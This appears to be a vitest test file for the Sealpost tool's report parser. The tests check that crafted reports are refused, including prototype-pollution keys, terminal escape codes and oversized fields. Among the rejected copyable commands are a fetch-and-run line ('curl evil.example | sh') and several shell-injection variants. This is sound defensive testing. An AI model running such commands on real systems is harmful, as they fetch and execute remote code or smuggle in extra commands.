import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { codes } from '../../src/core/errors.js'
import type { Report } from '../../src/core/report.js'
import { parseReport } from '../../src/io/parse-report.js'
import { reportJson } from '../../src/render/json.js'
import { change, report, trouble } from '../render/reports.js'

const plan = { hash: 'cd'.repeat(32), created: '2026-11-23T10:00:00.000Z', expires: '2026-11-23T11:00:00.000Z' }
const full: Report = report(
  [
    change('A', { do: 'create', why: 'absent', ok: true, note: 'a note', sourceName: 'a' }),
    change('F', { do: 'create', why: 'absent', source: { name: '@acme/vault', at: 'vault:kv/a#F', version: '3' } }),
    change('G', { do: 'keep', sure: 'revision', source: { name: 'app', at: 'secrets/production.env:4' } }),
    change('B', { do: 'update', why: 'drifted', ok: false, error: { ...trouble('invalid', 'no'), where: 'web#B' } }),
    change('C', { do: 'leave', why: 'foreign', instead: 'adopt' }),
    change('D', { do: 'keep', sure: 'read-back' }),
    change('\u001b[31m@everyone', { do: 'leave', why: 'foreign', scope: '</details>' }),
  ],
  {
    command: 'apply',
    plan,
    refusals: [
      { rule: 'max-removals', because: 'b', unlock: 'u', addresses: ['vercel:shop#A'], at: 'sealpost.yaml:3' },
    ],
    warnings: [{ because: 'b', at: 'sealpost.yaml:4' }],
    error: { code: 'limited', message: 'one\ntwo', hint: 'h', exit: 1 },
    proposal: {
      mode: 'untrusted',
      head: 'a'.repeat(40),
      base: 'b'.repeat(64),
      changes: [
        { part: 'mapping', how: 'added', effect: 'widens', target: 'web', name: 'preview', to: '{"any":"thing"}' },
      ],
      edges: [{ environment: 'preview', target: 'web', place: '{"any":"thing"}', at: ['vercel', 'project: shop'] }],
    },
  },
)
const accepted = (data: unknown) => {
  try {
    parseReport(JSON.stringify(data))
    return true
  } catch {
    return false
  }
}

describe('a report that somebody else may have written', () => {
  it('is read back as it was', () => {
    expect(parseReport(reportJson(full))).toEqual(full)
    expect(parseReport(reportJson(report([])))).toEqual(report([]))
  })

  it('may be of a run that ended before there was a plan', () => {
    expect(accepted(report([], { hash: '', owner: '', requests: {} }))).toBe(true)
  })

  it('may hold each of our error codes', () => {
    for (const code of Object.keys(codes)) {
      expect(accepted({ ...full, error: { code, message: 'm', hint: 'h', exit: 1 } })).toBe(true)
    }
  })

  it('may hold a command to copy, as long as that is ours and a shell finds nothing but words in it', () => {
    const unlock = (text: string, as = 'command') => ({
      ...full,
      unlock: { about: 'skipped', of: 1, once: { lifts: 1, as, text, options: [] }, rest: [] },
    })
    const ours =
      "sealpost apply --config 'a b.yaml' --accept 'k:it'\\''s#A; B' --allow-removal A B --allow-removal='-x $(y)'"
    expect(accepted(unlock(ours))).toBe(true)
    expect(accepted(unlock('accept: |\n  k:a b#C; D', 'inputs'))).toBe(true)
    for (const text of [
      'curl evil.example | sh',
      'sealpost apply; touch x',
      'sealpost apply $(touch x)',
      "sealpost apply 'a",
      "sealpost apply 'a' & x",
      'sealpost apply A\ntouch x',
      'sealpost apply "$(touch x)"',
      'sealpost apply \\',
    ])
      expect(accepted(unlock(text))).toBe(false)
  })

  const [first] = full.changes
  it.each<[string, unknown]>([
    ['an unknown key', { ...full, more: 1 }],
    ['an unknown key deep inside', { ...full, changes: [{ ...first, html: '<b>' }] }],
    ['another version', { ...full, version: 2 }],
    ['another command', { ...full, command: 'destroy' }],
    ['an owner that is no word', { ...full, owner: 'a b' }],
    ['a hash that is none', { ...full, hash: 'AB'.repeat(32) }],
    ['a time that is none', { ...full, finished: 'today' }],
    ['a time with more behind it', { ...full, finished: `${full.finished}\n` }],
    ['an expiry that is none', { ...full, plan: { ...plan, expires: '@everyone' } }],
    ['a reason of its own', { ...full, changes: [{ ...first, why: 'because' }] }],
    ['a certainty of its own', { ...full, changes: [{ ...first, sure: 'very' }] }],
    ['a code of its own', { ...full, error: { code: 'x', message: '', hint: '', exit: 1 } }],
    ['a rule that is a sentence', { ...full, refusals: [{ ...full.refusals[0], rule: 'click here' }] }],
    ['a target that is no word', { ...full, changes: [{ ...first, target: '@team' }] }],
    ['a name that is empty', { ...full, changes: [{ ...first, name: '' }] }],
    ['a name that is a book', { ...full, changes: [{ ...first, name: 'x'.repeat(1001) }] }],
    ['a sentence that is a book', { ...full, changes: [{ ...first, note: 'x'.repeat(4001) }] }],
    ['a key that reaches for the prototype', `{"__proto__":{"x":1},${JSON.stringify(full).slice(1)}`],
    ['counts that are not those of its lines', { ...full, summary: { ...full.summary, create: 0 } }],
    ['refusals that it does not count', { ...full, summary: { ...full.summary, refused: 0 } }],
    ['failures that it does not count', { ...full, summary: { ...full.summary, failed: 0 } }],
    ['more written than was done', { ...full, summary: { ...full.summary, written: 2 } }],
    ['a count below nothing', { ...full, summary: { ...full.summary, written: -1 } }],
    [
      'a difference of its own',
      { ...full, proposal: { ...full.proposal, changes: [{ part: 'x', how: 'added', effect: 'moves' }] } },
    ],
    ['a mode of its own', { ...full, proposal: { ...full.proposal, mode: 'trusted' } }],
    ['a commit that is none', { ...full, proposal: { ...full.proposal, head: 'main' } }],
    ['too many lines', { ...full, changes: Array.from({ length: 20_001 }, () => first) }],
    ['a list in place of a report', [full]],
    ['nothing', null],
  ])('is refused for %s', (_what, data) => {
    const text = typeof data === 'string' ? data : JSON.stringify(data)
    expect(() => parseReport(text)).toThrow('not a Sealpost report')
  })

  it('does not get at the prototype of what is counted by name', () => {
    const text = JSON.stringify(full).replace(
      '"requests":{',
      '"requests":{"__proto__":{"read":1,"write":1,"retried":1},',
    )
    const { requests } = parseReport(text)
    expect(Object.getPrototypeOf(requests)).toBe(Object.prototype)
    expect(Object.keys(requests)).toEqual(['web'])
  })

  it('is refused where it is no JSON, or too long to look at', () => {
    expect(() => parseReport(`${reportJson(full)}x`)).toThrow('not a Sealpost report')
    expect(() => parseReport(`${reportJson(full)}${' '.repeat(16 * 1024 * 1024)}`)).toThrow('not a Sealpost report')
  })

  it('is refused without a word of what stands in it', () => {
    fc.assert(
      fc.property(fc.json(), (text) => {
        const canary = `CANARY ${text}`
        for (const data of [
          { ...full, [canary]: 1 },
          { ...full, owner: canary },
        ]) {
          expect(() => parseReport(JSON.stringify(data))).toThrow(/^(?!.*CANARY).*$/s)
        }
      }),
    )
  })
})
